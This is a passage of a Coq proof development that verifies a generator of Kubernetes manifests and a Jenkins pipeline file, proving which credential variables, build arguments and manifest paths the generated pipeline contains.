    = Some (Template.deployment app_name port)
  ∧ read_file run.2 (service_path dest app_name)
    = Some (Template.service app_name port node_port)
  ∧ read_file run.2 (hpa_path dest app_name) = Some (Template.hpa app_name).
Proof.
  intros Hname Hnames Hfree dest run.
  unfold run. rewrite (generate_ok _ _ _ _ _ _ Hname Hnames Hfree).
  split; [done|]. cbn [fst snd].
  pose proof (bundle_read app_name port node_port envs st Hname (make_dirs
    ((cwd st ++ ["generated"; app_name]) ++ ["k8s"])
    (remove_tree (cwd st ++ ["generated"; app_name]) (fs st)))) as Hread.
  assert (dockerfile_text envs = Template.dockerfile names)
    as Edf by (unfold dockerfile_text; by rewrite Hnames).
  unfold artifacts in Hread.
  apply Forall_cons in Hread as [H1 Hread].
  apply Forall_cons in Hread as [H2 Hread].
  apply Forall_cons in Hread as [H3 Hread].
  apply Forall_cons in Hread as [H4 _].
  split; [rewrite <- Edf; exact H1|]. split; [exact H2|]. split; [exact H3|].
  exact H4.
Qed.

End ReadBack.

(** *** The secret writer with bound names *)

Section Bindings.
Import Os.

(** The secret template is written before any of the four names is
    read. *)
Lemma write_secret_yaml_secret (g : globals) (app_name : string)
    (var_names : list string) (output_path : string) (st : state) :
  creatable st output_path →
  write_secret_yaml g app_name var_names output_path st
  = (output_dir ← global (g_output_dir g) "output_dir";
     f ← open_w (path_join output_dir "Jenkinsfile");
     port ← global (g_port g) "port";
     node_port ← global (g_node_port g) "node_port";
     envs ← global (g_envs g) "envs";
     names ← lift (Template.env_names envs);
     fwrite f (Template.jenkins_environment app_name port node_port names);;
     for_each envs (λ e,
       sid ← lift (Template.subscript e "secret_id");
       n ← lift (Template.subscript e "name");
       fwrite f (Template.jenkins_credential sid n));;
     fwrite f Template.jenkins_build_open;;
     for_each envs (λ e,
       n ← lift (Template.subscript e "name");
       fwrite f (Template.jenkins_build_arg n));;
     fwrite f (Template.jenkins_build_close port);;
     for_each envs (λ e,
       sid ← lift (Template.subscript e "secret_id");
       n ← lift (Template.subscript e "name");
       fwrite f (Template.jenkins_credential sid n));;
     fwrite f Template.jenkins_deploy_open;;
     for_each envs (λ e,
       n ← lift (Template.subscript e "name");
       fwrite f (Template.jenkins_from_literal n));;
     fwrite f (Template.jenkins_deploy_close app_name))
    (set_fs (<[resolve (cwd st) output_path
               := File (secret_text app_name var_names)]> (fs st))
       (logged "write_secret_yaml" st)).
Proof.
  intros (HP & Hpar & Hnd). unfold write_secret_yaml.
  rewrite run_bind. cbv beta iota delta [log_call].
  fold (logged "write_secret_yaml" st).
  rewrite run_bind.
  rewrite (open_w_ok output_path (logged "write_secret_yaml" st)) by done.
  cbv beta iota. cbn [cwd fs logged].
  rewrite run_bind, fwrite_fresh. cbv beta iota.
  rewrite run_bind, for_each_fwrite. cbv beta iota. done.
Qed.

(** A file that could be created before the secret template was written
    can be created after it. *)
Lemma creatable_after_secret (st : state) (output_path p : string) (c : string) :
  creatable st output_path → creatable st p →
  creatable (set_fs (<[resolve (cwd st) output_path := File c]> (fs st))
               (logged "write_secret_yaml" st)) p.
Proof.
  intros (HS & HSpar & HSnd) (HP & HPpar & HPnd). unfold creatable.
  cbn [cwd fs set_fs logged]. split; [done|]. split.
  - destruct (parent (resolve (cwd st) p)) as [|x r] eqn:E; [done|].
    rewrite fs_get_stored in * by done. rewrite lookup_insert.
    case_decide as Heq; [|done]. rewrite Heq in HSnd. done.
  - rewrite lookup_insert. by case_decide.
Qed.

End Bindings.

Section PipelineRun.
Import Text Os.

Lemma jenkins_environment_split (app_name : string) (port node_port : jsval)
    (names : list string) :
  Template.jenkins_environment app_name port node_port names
  = pipeline_head app_name port node_port
    +:+ join EmptyString (map (λ n, env_decl_line n +:+ String nl EmptyString) names)
    +:+ pipeline_stages.
Proof.
  unfold Template.jenkins_environment, pipeline_head, pipeline_stages.
  match goal with
  | |- context [map ?f names] =>
      replace (map f names)
        with (map (λ n, env_decl_line n +:+ String nl EmptyString) names)
  end.
  - by rewrite !sapp_assoc.
  - apply map_ext. intros n. unfold env_decl_line. by rewrite !sapp_assoc.
Qed.

Lemma for_each_ext {A} (xs : list A) (body body' : A → M unit) (st : state) :
  (∀ x st', x ∈ xs → body x st' = body' x st') →
  for_each xs body st = for_each xs body' st.
Proof.
  revert st. induction xs as [|x r IH]; intros st H; [done|].
  cbn [for_each]. rewrite !run_bind, (H x st) by by left.
  destruct (body' x st) as [[[]|e] st1]; [|done].
  apply IH. intros y st' Hy. apply H. by right.
Qed.

Lemma subscript_name (e : env) :
  env_complete e = true → Template.subscript e "name" = Ok (name_of e).
Proof.
  unfold env_complete, Template.subscript, name_of.
  intros [[n ->]%bool_decide_eq_true _]%andb_true_iff. done.
Qed.

Lemma subscript_secret_id (e : env) :
  env_complete e = true → Template.subscript e "secret_id" = Ok (secret_id_of e).
Proof.
  unfold env_complete, Template.subscript, secret_id_of.
  intros [_ [n ->]%bool_decide_eq_true]%andb_true_iff. done.
Qed.

Lemma env_names_names (envs : list env) :
  forallb env_complete envs = true →
  Template.env_names envs = Ok (map name_of envs).
Proof.
  induction envs as [|e r IH]; [done|]. cbn [forallb map Template.env_names].
  intros [He Hr]%andb_true_iff. by rewrite subscript_name, IH.
Qed.

(** The loops over complete entries write one line an entry. *)
Lemma for_each_names (h : path) (g : string → string) (envs : list env)
    (c : string) (m : fsmap) (st : state) :
  forallb env_complete envs = true →
  for_each envs (λ e, n ← lift (Template.subscript e "name"); fwrite h (g n))
    (set_fs (<[h := File c]> m) st)
  = (Ok tt, set_fs (<[h := File (c +:+ join EmptyString
                                         (map (λ e, g (name_of e)) envs))]> m) st).
Proof.
  intros Hall. rewrite <- (for_each_fwrite h (λ e, g (name_of e))).
  apply for_each_ext. intros e st' He.
  rewrite forallb_forall in Hall. rewrite run_bind. unfold lift.
  rewrite subscript_name; [done|]. apply Hall. by apply list_elem_of_In.
Qed.

Lemma for_each_credentials (h : path) (envs : list env)
    (c : string) (m : fsmap) (st : state) :
  forallb env_complete envs = true →
  for_each envs (λ e,
      sid ← lift (Template.subscript e "secret_id");
      n ← lift (Template.subscript e "name");
      fwrite h (Template.jenkins_credential sid n))
    (set_fs (<[h := File c]> m) st)
  = (Ok tt, set_fs (<[h := File (c +:+ join EmptyString
       (map (λ e, Template.jenkins_credential (secret_id_of e) (name_of e)) envs))]> m) st).
Proof.
  intros Hall.
  rewrite <- (for_each_fwrite h
    (λ e, Template.jenkins_credential (secret_id_of e) (name_of e))).
  apply for_each_ext. intros e st' He.
  rewrite forallb_forall in Hall. rewrite !run_bind. unfold lift.
  rewrite subscript_secret_id by (apply Hall; by apply list_elem_of_In).
  cbv beta iota. rewrite run_bind.
  rewrite subscript_name; [done|]. apply Hall. by apply list_elem_of_In.
Qed.

(** With the four names bound and complete entries, a call writes the
    secret template and then the whole pipeline definition. *)
Lemma write_secret_yaml_bound (app_name : string) (var_names : list string)
    (output_path output_dir : string) (port node_port : jsval)
    (envs : list env) (st : state) :
  forallb env_complete envs = true →
  creatable st output_path →
  creatable st (jenkinsfile_path output_dir) →
  write_secret_yaml (bound_globals output_dir port node_port envs)
    app_name var_names output_path st
  = (Ok tt,
     {| cwd := cwd st;
        fs := <[resolve (cwd st) (jenkinsfile_path output_dir)
                := File (pipeline_text app_name port node_port envs)]>
                (<[resolve (cwd st) output_path
                   := File (secret_text app_name var_names)]> (fs st));
        calls := "write_secret_yaml" :: calls st |}).
Proof.
  intros Hall Hc Hj. rewrite write_secret_yaml_secret by done.
  cbn [bound_globals g_output_dir g_port g_node_port g_envs].
  rewrite run_bind. cbv beta iota delta [global ret]. rewrite run_bind.
  pose proof (creatable_after_secret st output_path (jenkinsfile_path output_dir)
                (secret_text app_name var_names) Hc Hj) as (HJ & HJpar & HJnd).
  cbn [cwd fs set_fs logged] in HJ, HJpar, HJnd.
  fold (jenkinsfile_path output_dir).
  rewrite (open_w_ok (jenkinsfile_path output_dir)) by done.
  cbv beta iota. cbn [cwd fs set_fs logged].
  rewrite !run_bind. cbv beta iota. unfold lift at 1.
  rewrite env_names_names by done. cbv beta iota.
  rewrite run_bind, set_fs_set_fs, fwrite_fresh. cbv beta iota.
  rewrite run_bind, for_each_credentials by done. cbv beta iota.
  rewrite run_bind, fwrite_append. cbv beta iota.
  rewrite run_bind, for_each_names by done. cbv beta iota.
  rewrite run_bind, fwrite_append. cbv beta iota.
  rewrite run_bind, for_each_credentials by done. cbv beta iota.
  rewrite run_bind, fwrite_append. cbv beta iota.
  rewrite run_bind, for_each_names by done. cbv beta iota.
  rewrite fwrite_append. unfold pipeline_text. cbv zeta.
  by rewrite !sapp_assoc.
Qed.

End PipelineRun.

Section PipelineLines.
Import Text.
Local Arguments Ascii.eqb : simpl never.

Lemma binding_ok_inv (e : env) :
  binding_ok e = true →
  env_complete e = true ∧ identifier (name_of e) = true
  ∧ single_line (secret_id_of e) = true ∧ free_of "," (secret_id_of e) = true.
Proof.
  unfold binding_ok, env_complete. rewrite !andb_true_iff. tauto.
Qed.

Lemma bindings_complete (envs : list env) :
  forallb binding_ok envs = true → forallb env_complete envs = true.
Proof.
  rewrite !forallb_forall. intros H e He. by apply binding_ok_inv, H.
Qed.

Lemma env_decl_line_single (n : string) :
  single_line n = true → single_line (env_decl_line n) = true.
Proof.
  intros H. unfold env_decl_line, single_line in *. by rewrite !free_of_app, H.
Qed.

Lemma credential_line_single (sid n : string) :
  single_line sid = true → single_line n = true →
  single_line (credential_line sid n) = true.
Proof.
  intros H1 H2. unfold credential_line, single_line in *.
  by rewrite !free_of_app, H1, H2.
Qed.

Lemma build_arg_line_single (n : string) :
  single_line n = true → single_line (build_arg_line n) = true.
Proof.
  intros H. unfold build_arg_line, q, single_line in *. by rewrite !free_of_app, H.
Qed.

Lemma from_literal_line_single (n : string) :
  single_line n = true → single_line (from_literal_line n) = true.
Proof.
  intros H. unfold from_literal_line, q, single_line in *. by rewrite !free_of_app, H.
Qed.

(** The lines of the pipeline definition: the fixed texts of the
    template, each followed by the lines of a loop over [envs]. *)
Lemma pipeline_lines (app_name : string) (port node_port : jsval)
    (envs : list env) :
  forallb binding_ok envs = true →
  lines (pipeline_text app_name port node_port envs)
  = glue (lines (pipeline_head app_name port node_port))
      (map (λ e, env_decl_line (name_of e)) envs ++
       glue (lines pipeline_stages)
         (map (λ e, credential_line (secret_id_of e) (name_of e)) envs ++
          glue (lines Template.jenkins_build_open)
            (map (λ e, build_arg_line (name_of e)) envs ++
             glue (lines (Template.jenkins_build_close port))
               (map (λ e, credential_line (secret_id_of e) (name_of e)) envs ++
                glue (lines Template.jenkins_deploy_open)
                  (map (λ e, from_literal_line (name_of e)) envs ++
                   lines (Template.jenkins_deploy_close app_name)))))).
Proof.
  intros Hall. rewrite forallb_forall in Hall.
  assert (∀ e, e ∈ envs → single_line (name_of e) = true
                          ∧ single_line (secret_id_of e) = true) as Hlines.
  { intros e He. apply list_elem_of_In, Hall, binding_ok_inv in He
      as (_ & Hn & Hs & _). split; [by apply identifier_single_line|done]. }
  unfold pipeline_text. cbv zeta. rewrite jenkins_environment_split, map_map.
  rewrite !sapp_assoc.
  rewrite lines_app, (lines_entries _ (λ e, env_decl_line (name_of e))).
  2:{ apply Forall_forall. intros e He. split; [done|].
      by apply env_decl_line_single, Hlines. }
  rewrite lines_app,
    (lines_entries _ (λ e, credential_line (secret_id_of e) (name_of e))).
  2:{ apply Forall_forall. intros e He. split.
      - unfold Template.jenkins_credential, credential_line. by rewrite !sapp_assoc.
      - apply credential_line_single; by apply Hlines. }
  rewrite lines_app, (lines_entries _ (λ e, build_arg_line (name_of e))).
  2:{ apply Forall_forall. intros e He. split.
      - unfold Template.jenkins_build_arg, build_arg_line. by rewrite !sapp_assoc.
      - by apply build_arg_line_single, Hlines. }
  rewrite lines_app,
    (lines_entries _ (λ e, credential_line (secret_id_of e) (name_of e))).
  2:{ apply Forall_forall. intros e He. split.
      - unfold Template.jenkins_credential, credential_line. by rewrite !sapp_assoc.
      - apply credential_line_single; by apply Hlines. }
  rewrite lines_app, (lines_entries _ (λ e, from_literal_line (name_of e))).
  2:{ apply Forall_forall. intros e He. split.
      - unfold Template.jenkins_from_literal, from_literal_line. by rewrite !sapp_assoc.
      - by apply from_literal_line_single, Hlines. }
  done.
Qed.

Lemma glue_nonempty (l1 l2 : list string) : l2 ≠ [] → glue l1 l2 ≠ [].
Proof.
  destruct l2 as [|h t]; [done|]. intros _. unfold glue.
  by destruct (removelast l1).
Qed.

Lemma app_nonempty_r {A} (l1 l2 : list A) : l2 ≠ [] → l1 ++ l2 ≠ [].
Proof. destruct l1, l2; done. Qed.

End PipelineLines.

Section Scans.
Import Text.
Local Arguments Ascii.eqb : simpl never.

Lemma omap_map_none {A B C} (f : B → option C) (l : A → B) (xs : list A) :
  (∀ x, x ∈ xs → f (l x) = None) → omap f (map l xs) = [].
Proof.
  induction xs as [|x r IH]; [done|]. intros H. cbn [map omap list_omap].
  rewrite (H x) by by left. apply IH. intros y Hy. apply H. by right.
Qed.

Lemma omap_map_some {A B C} (f : B → option C) (l : A → B) (g : A → C)
    (xs : list A) :
  (∀ x, x ∈ xs → f (l x) = Some (g x)) → omap f (map l xs) = map g xs.
Proof.
  induction xs as [|x r IH]; [done|]. intros H. cbn [map omap list_omap].
  rewrite (H x) by by left. f_equal. apply IH. intros y Hy. apply H. by right.
Qed.

(** A text that starts with a word is matched against a pattern that
    starts with a word: the words must be the same. *)
Lemma starts_with_word (w n Y X : string) (y x : ascii) (Y' X' : string) :
  all_chars is_identifier_char w = true →
  all_chars is_identifier_char n = true →
  Y = String y Y' → is_identifier_char y = false →
  X = String x X' → is_identifier_char x = false →
  starts_with (w +:+ Y) (n +:+ X) = bool_decide (w = n) && starts_with Y X.
Proof.
  intros Hw Hn -> Hy -> Hx. revert n Hn.
  induction w as [|a w IH]; intros n Hn.
  - rewrite sapp_nil_l. destruct n as [|c n].
    + by rewrite sapp_nil_l.
    + rewrite sapp_cons. cbn [starts_with]. simpl in Hn.
      apply andb_true_iff in Hn as [Hc _].
      destruct (Ascii.eqb_spec y c) as [->|]; [congruence|].
      by rewrite bool_decide_eq_false_2.
  - simpl in Hw. apply andb_true_iff in Hw as [Ha Hw].
    rewrite sapp_cons. destruct n as [|c n].
    + rewrite sapp_nil_l. cbn [starts_with].
      destruct (Ascii.eqb_spec a x) as [->|]; [congruence|].
      by rewrite bool_decide_eq_false_2.
    + rewrite sapp_cons. cbn [starts_with]. simpl in Hn.
      apply andb_true_iff in Hn as [Hc Hn]. rewrite (IH Hw n Hn).
      destruct (Ascii.eqb_spec a c) as [->|Hne].
      * destruct (decide (w = n)) as [->|Hwn].
        -- by rewrite !bool_decide_eq_true_2.
        -- rewrite !bool_decide_eq_false_2; [done|congruence|done].
      * rewrite (bool_decide_eq_false_2 (String a w = String c n)); [done|congruence].
Qed.

Lemma strip_prefix_starts (p s : string) :
  starts_with p s = false → strip_prefix p s = None.
Proof.
  revert s. induction p as [|a p IH]; intros s; [done|].
  destruct s as [|b s]; [done|]. cbn [starts_with strip_prefix].
  destruct (Ascii.eqb a b); [apply IH|done].
Qed.

Lemma identifier_chars (n : string) :
  identifier n = true → all_chars is_identifier_char n = true.
Proof. by intros [_ H]%andb_true_iff. Qed.

(** A declaration of the [environment] block starts with none of the
    keywords the readers look for. *)
Lemma env_decl_no_keyword (w Y : string) (y : ascii) (Y' : string) (n : string) :
  all_chars is_identifier_char w = true →
  Y = String y Y' → is_identifier_char y = false →
  starts_with Y " = ''" = false →
  identifier n = true →
  starts_with (w +:+ Y) (lstrip (env_decl_line n)) = false.
Proof.
  intros Hw HY Hy HYX Hn. unfold env_decl_line.
  change (lstrip ("        " +:+ n +:+ " = ''")) with (lstrip (n +:+ " = ''")).
  rewrite lstrip_identifier by done.
  rewrite (starts_with_word w n Y " = ''" y " " Y' "= ''");
    [|done|by apply identifier_chars|done..].
  by rewrite HYX, andb_false_r.
Qed.

End Scans.

Section PipelineReaders.
Import Text.
Local Arguments Ascii.eqb : simpl never.

Variables (app_name : string) (port node_port : jsval).
Hypothesis Hname : single_line app_name = true.
Hypothesis Hport : single_line (py_str port) = true.
Hypothesis Hnode : single_line (py_str node_port) = true.

Ltac template_lines :=
  repeat ((rewrite lines_app_single by assumption) || rewrite lines_app).

(** What a reader of lines finds in a fixed text of the template that
    is followed by further lines. *)
Ltac fixed_text :=
  let S := fresh "S" in
  let HS := fresh "HS" in
  intros S HS; destruct S as [|h t]; [done|];
  unfold pipeline_head, pipeline_stages, Template.jenkins_build_open,
    Template.jenkins_build_close, Template.jenkins_deploy_open,
    Template.jenkins_deploy_close;
  template_lines; vm_compute; reflexivity.

(** *** The build arguments passed to the build step *)

Let build_arg_of (l : string) : option string :=
  option_map (take_until "=") (strip_prefix "--build-arg " (lstrip l)).

Lemma build_arg_head (S : list string) :
  S ≠ [] →
  omap build_arg_of (glue (lines (pipeline_head app_name port node_port)) S)
  = omap build_arg_of S.
Proof. revert S. fixed_text. Qed.

Lemma build_arg_stages (S : list string) :
  S ≠ [] →
  omap build_arg_of (glue (lines pipeline_stages) S) = omap build_arg_of S.
Proof. revert S. fixed_text. Qed.

Lemma build_arg_build_open (S : list string) :
  S ≠ [] →
  omap build_arg_of (glue (lines Template.jenkins_build_open) S)
  = omap build_arg_of S.
Proof. revert S. fixed_text. Qed.

Lemma build_arg_build_close (S : list string) :
  S ≠ [] →
  omap build_arg_of (glue (lines (Template.jenkins_build_close port)) S)
  = "PORT" :: omap build_arg_of S.
Proof. revert S. fixed_text. Qed.

Lemma build_arg_deploy_open (S : list string) :
  S ≠ [] →
  omap build_arg_of (glue (lines Template.jenkins_deploy_open) S)
  = omap build_arg_of S.
Proof. revert S. fixed_text. Qed.

Lemma build_arg_deploy_close :
  omap build_arg_of (lines (Template.jenkins_deploy_close app_name)) = [].
Proof.
  unfold Template.jenkins_deploy_close. template_lines. vm_compute. reflexivity.
Qed.

Lemma build_arg_env_decl (n : string) :
  identifier n = true → build_arg_of (env_decl_line n) = None.
Proof.
  intros Hn. unfold build_arg_of. rewrite strip_prefix_starts; [done|].
  by apply (env_decl_no_keyword EmptyString "--build-arg " "-" "-build-arg ").
Qed.

Lemma build_arg_credential (sid n : string) :
  build_arg_of (credential_line sid n) = None.
Proof. vm_compute. reflexivity. Qed.

Lemma build_arg_from_literal (n : string) :
  build_arg_of (from_literal_line n) = None.
Proof. vm_compute. reflexivity. Qed.

Lemma build_arg_build_arg (n : string) :
  identifier n = true → build_arg_of (build_arg_line n) = Some n.
Proof.
  intros Hn. unfold build_arg_of, build_arg_line.
  change (strip_prefix "--build-arg "
            (lstrip ("                          --build-arg " +:+ n +:+ "=" +:+
                     q ("\${" +:+ n +:+ "}") +:+ " \")))
    with (Some (n +:+ String "=" (q ("\${" +:+ n +:+ "}") +:+ " \"))).
  cbn [option_map]. rewrite take_until_app; [done|].
  by apply identifier_free.
Qed.

(** The build step is passed one build argument a variable, in the
    order of [envs], and then PORT. *)
Lemma pipeline_build_args (envs : list env) :
  forallb binding_ok envs = true →
  Pipeline.build_args (pipeline_text app_name port node_port envs)
  = map name_of envs ++ ["PORT"].
Proof.
  intros Hall. unfold Pipeline.build_args. rewrite pipeline_lines by done.
  fold build_arg_of.
  assert (∀ e, e ∈ envs → identifier (name_of e) = true) as Hid.
  { intros e He. rewrite forallb_forall in Hall.
    by apply list_elem_of_In, Hall, binding_ok_inv in He as (_ & ? & _). }
  pose proof (lines_nonempty (Template.jenkins_deploy_close app_name)) as Hlast.
  rewrite build_arg_head
    by (repeat (apply app_nonempty_r || apply glue_nonempty); exact Hlast).
  rewrite omap_app, omap_map_none by (intros e He; by apply build_arg_env_decl, Hid).
  rewrite build_arg_stages
    by (repeat (apply app_nonempty_r || apply glue_nonempty); exact Hlast).
  rewrite omap_app, omap_map_none by (intros e He; apply build_arg_credential).
  rewrite build_arg_build_open
    by (repeat (apply app_nonempty_r || apply glue_nonempty); exact Hlast).
  rewrite omap_app, (omap_map_some _ _ name_of)
    by (intros e He; by apply build_arg_build_arg, Hid).
  rewrite build_arg_build_close
    by (repeat (apply app_nonempty_r || apply glue_nonempty); exact Hlast).
  rewrite omap_app, omap_map_none by (intros e He; apply build_arg_credential).
  rewrite build_arg_deploy_open
    by (repeat (apply app_nonempty_r || apply glue_nonempty); exact Hlast).
  rewrite omap_app, omap_map_none by (intros e He; apply build_arg_from_literal).
  by rewrite build_arg_deploy_close.
Qed.

(** *** The credentials bound in the build stage *)

Let credential_of (l : string) : option string :=
  if starts_with "string(credentialsId: " (lstrip l)
  then option_map (take_until "'")
         (strip_prefix "variable: '" (lstrip (drop_until "," l)))
  else None.

Lemma credential_head (S : list string) :
  S ≠ [] →
  omap credential_of
    (Pipeline.build_stage (glue (lines (pipeline_head app_name port node_port)) S))
  = omap credential_of (Pipeline.build_stage S).
Proof. revert S. fixed_text. Qed.

Lemma credential_stages (S : list string) :
  S ≠ [] →
  omap credential_of (Pipeline.build_stage (glue (lines pipeline_stages) S))
  = omap credential_of (Pipeline.build_stage S).
Proof. revert S. fixed_text. Qed.

Lemma credential_build_open (S : list string) :
  S ≠ [] →
  omap credential_of
    (Pipeline.build_stage (glue (lines Template.jenkins_build_open) S))
  = omap credential_of (Pipeline.build_stage S).
Proof. revert S. fixed_text. Qed.

(** The build stage ends in the text that closes the build step. *)
Lemma credential_build_close (S : list string) :
  S ≠ [] →
  omap credential_of
    (Pipeline.build_stage (glue (lines (Template.jenkins_build_close port)) S))
  = [].
Proof. revert S. fixed_text. Qed.

Lemma build_stage_entries {A} (l : A → string) (xs : list A) (S : list string) :
  (∀ x, x ∈ xs → starts_with "stage('Deploy')" (lstrip (l x)) = false) →
  Pipeline.build_stage (map l xs ++ S) = map l xs ++ Pipeline.build_stage S.
Proof.
  induction xs as [|x r IH]; [done|]. intros H.
  cbn [map app Pipeline.build_stage]. rewrite (H x) by by left.
  f_equal. apply IH. intros y Hy. apply H. by right.
Qed.

Lemma credential_credential (sid n : string) :
  free_of "," sid = true → identifier n = true →
  credential_of (credential_line sid n) = Some n.
Proof.
  intros Hsid Hn. unfold credential_of, credential_line.
  change (starts_with "string(credentialsId: "
            (lstrip ("                    string(credentialsId: '" +:+ sid +:+
                     "', variable: '" +:+ n +:+ "'),")))
    with true. cbv iota.
  assert ("                    string(credentialsId: '" +:+ sid +:+
          "', variable: '" +:+ n +:+ "'),"
          = ("                    string(credentialsId: '" +:+ sid +:+ "'")
            +:+ String "," (" variable: '" +:+ n +:+ "'),")) as ->
    by by rewrite !sapp_assoc.
  rewrite drop_until_app by by rewrite !free_of_app, Hsid.
  change (strip_prefix "variable: '" (lstrip (" variable: '" +:+ n +:+ "'),")))
    with (Some (n +:+ String "'" "),")).
  cbn [option_map]. rewrite take_until_app; [done|]. by apply identifier_free.
Qed.

(** The build stage binds one credential a variable, in the order of
    [envs]. *)
Lemma pipeline_credential_vars (envs : list env) :
  forallb binding_ok envs = true →
  Pipeline.credential_vars (pipeline_text app_name port node_port envs)
  = map name_of envs.
Proof.
  intros Hall. unfold Pipeline.credential_vars. rewrite pipeline_lines by done.
  fold credential_of.
  assert (∀ e, e ∈ envs → identifier (name_of e) = true
                          ∧ free_of "," (secret_id_of e) = true) as Hid.
  { intros e He. rewrite forallb_forall in Hall.
    by apply list_elem_of_In, Hall, binding_ok_inv in He as (_ & ? & _ & ?). }
  pose proof (lines_nonempty (Template.jenkins_deploy_close app_name)) as Hlast.
  rewrite credential_head
    by (repeat (apply app_nonempty_r || apply glue_nonempty); exact Hlast).
  rewrite build_stage_entries, omap_app, omap_map_none.
  2:{ intros e He. unfold credential_of.
      rewrite (env_decl_no_keyword "string" "(credentialsId: " "(" "credentialsId: ");
        done || by apply Hid. }
  2:{ intros e He.
      apply (env_decl_no_keyword "stage" "('Deploy')" "(" "'Deploy')");
        done || by apply Hid. }
  rewrite credential_stages
    by (repeat (apply app_nonempty_r || apply glue_nonempty); exact Hlast).
  rewrite build_stage_entries, omap_app, (omap_map_some _ _ name_of).
  2:{ intros e He. apply credential_credential; by apply Hid. }
  2:{ intros e He. vm_compute. reflexivity. }
  rewrite credential_build_open
    by (repeat (apply app_nonempty_r || apply glue_nonempty); exact Hlast).
  rewrite build_stage_entries, omap_app, omap_map_none.
  2:{ intros e He. vm_compute. reflexivity. }
  2:{ intros e He. vm_compute. reflexivity. }
  rewrite credential_build_close
    by (repeat (apply app_nonempty_r || apply glue_nonempty); exact Hlast).
  by rewrite !app_nil_r.
Qed.

(** *** The manifests read by the deploy stage *)

Let loop_of (l : string) : option string := strip_prefix "for res in " (lstrip l).
Let envsubst_of (l : string) : option string := strip_prefix "envsubst < " (lstrip l).
Let k8s_dir_of (l : string) : option string :=
  match strip_prefix "K8S_DIR" (lstrip l) with
  | Some rest => option_map (take_until "'") (strip_prefix "= '" (lstrip rest))
  | None => None
  end.

Lemma k8s_dir_head (S : list string) :
  S ≠ [] →
  omap k8s_dir_of (glue (lines (pipeline_head app_name port node_port)) S)
  = "k8s" :: omap k8s_dir_of S.
Proof. revert S. fixed_text. Qed.

Lemma loop_head (S : list string) :
  S ≠ [] →
  omap loop_of (glue (lines (pipeline_head app_name port node_port)) S)
  = omap loop_of S.
Proof. revert S. fixed_text. Qed.

Lemma loop_stages (S : list string) :
  S ≠ [] → omap loop_of (glue (lines pipeline_stages) S) = omap loop_of S.
Proof. revert S. fixed_text. Qed.

Lemma loop_build_open (S : list string) :
  S ≠ [] →
  omap loop_of (glue (lines Template.jenkins_build_open) S) = omap loop_of S.
Proof. revert S. fixed_text. Qed.

Lemma loop_build_close (S : list string) :
  S ≠ [] →
  omap loop_of (glue (lines (Template.jenkins_build_close port)) S) = omap loop_of S.
Proof. revert S. fixed_text. Qed.

Lemma loop_deploy_open (S : list string) :
  S ≠ [] →
  omap loop_of (glue (lines Template.jenkins_deploy_open) S) = omap loop_of S.
Proof. revert S. fixed_text. Qed.

Lemma loop_deploy_close :
  omap loop_of (lines (Template.jenkins_deploy_close app_name))
  = ["deployment service hpa; do"].
Proof.
  unfold Template.jenkins_deploy_close. template_lines. vm_compute. reflexivity.
Qed.

Lemma envsubst_head (S : list string) :
  S ≠ [] →
  omap envsubst_of (glue (lines (pipeline_head app_name port node_port)) S)
  = omap envsubst_of S.
Proof. revert S. fixed_text. Qed.

Lemma envsubst_stages (S : list string) :
  S ≠ [] → omap envsubst_of (glue (lines pipeline_stages) S) = omap envsubst_of S.
Proof. revert S. fixed_text. Qed.

Lemma envsubst_build_open (S : list string) :
  S ≠ [] →
  omap envsubst_of (glue (lines Template.jenkins_build_open) S) = omap envsubst_of S.
Proof. revert S. fixed_text. Qed.

Lemma envsubst_build_close (S : list string) :
  S ≠ [] →
  omap envsubst_of (glue (lines (Template.jenkins_build_close port)) S)
  = omap envsubst_of S.
Proof. revert S. fixed_text. Qed.

Lemma envsubst_deploy_open (S : list string) :
  S ≠ [] →
  omap envsubst_of (glue (lines Template.jenkins_deploy_open) S) = omap envsubst_of S.
Proof. revert S. fixed_text. Qed.

Lemma envsubst_deploy_close :
  omap envsubst_of (lines (Template.jenkins_deploy_close app_name))
  = ["\${K8S_DIR}/" +:+ app_name +:+ "-${res}.yaml > /tmp/" +:+ app_name
     +:+ "-${res}.yaml"].
Proof.
  unfold Template.jenkins_deploy_close. template_lines. vm_compute. reflexivity.
Qed.

Lemma replace_go_free (pat rep a r : string) (c : ascii) (p' : string) :
  pat = String c p' → free_of c a = true →
  replace_go pat rep 0 (a +:+ r) = a +:+ replace_go pat rep 0 r.
Proof.
  intros -> Ha. induction a as [|x a IH]; [done|].
  simpl in Ha. apply andb_true_iff in Ha as [Hx Ha]. apply negb_true_iff in Hx.
  rewrite !sapp_cons. cbn [replace_go starts_with].
  rewrite Ascii.eqb_sym, Hx. cbn [andb]. by rewrite IH.
Qed.

Lemma scan_entries {A B} (f : string → option B) (l : A → string) (xs : list A)
    (S : list string) :
  (∀ x, x ∈ xs → f (l x) = None) → omap f (map l xs ++ S) = omap f S.
Proof. intros H. by rewrite omap_app, omap_map_none. Qed.

Hypothesis Hblank : free_of " " app_name = true.
Hypothesis Hbackslash : free_of "\" app_name = true.
Hypothesis Hdollar : free_of "$" app_name = true.

(** The deploy stage reads, for each of [deployment], [service] and
    [hpa], the manifest [k8s/<app_name>-<resource>.yaml]. *)
Lemma pipeline_manifest_reads (envs : list env) :
  forallb binding_ok envs = true →
  Pipeline.manifest_reads (pipeline_text app_name port node_port envs)
  = ["k8s/" +:+ app_name +:+ "-deployment.yaml";
     "k8s/" +:+ app_name +:+ "-service.yaml";
     "k8s/" +:+ app_name +:+ "-hpa.yaml"].
Proof.
  intros Hall.
  assert (∀ e, e ∈ envs → identifier (name_of e) = true) as Hid.
  { intros e He. rewrite forallb_forall in Hall.
    by apply list_elem_of_In, Hall, binding_ok_inv in He as (_ & ? & _). }
  pose proof (lines_nonempty (Template.jenkins_deploy_close app_name)) as Hlast.
  assert (omap envsubst_of (lines (pipeline_text app_name port node_port envs))
          = ["\${K8S_DIR}/" +:+ app_name +:+ "-${res}.yaml > /tmp/" +:+ app_name
             +:+ "-${res}.yaml"]) as Hsubst.
  { rewrite pipeline_lines by done.
    rewrite envsubst_head
      by (repeat (apply app_nonempty_r || apply glue_nonempty); exact Hlast).
    rewrite scan_entries.
    2:{ intros e He. unfold envsubst_of. apply strip_prefix_starts.
        apply (env_decl_no_keyword "envsubst" " < " " " "< "); done || by apply Hid. }
    rewrite envsubst_stages
      by (repeat (apply app_nonempty_r || apply glue_nonempty); exact Hlast).
    rewrite scan_entries by (intros e He; vm_compute; reflexivity).
    rewrite envsubst_build_open
      by (repeat (apply app_nonempty_r || apply glue_nonempty); exact Hlast).
    rewrite scan_entries by (intros e He; vm_compute; reflexivity).
    rewrite envsubst_build_close
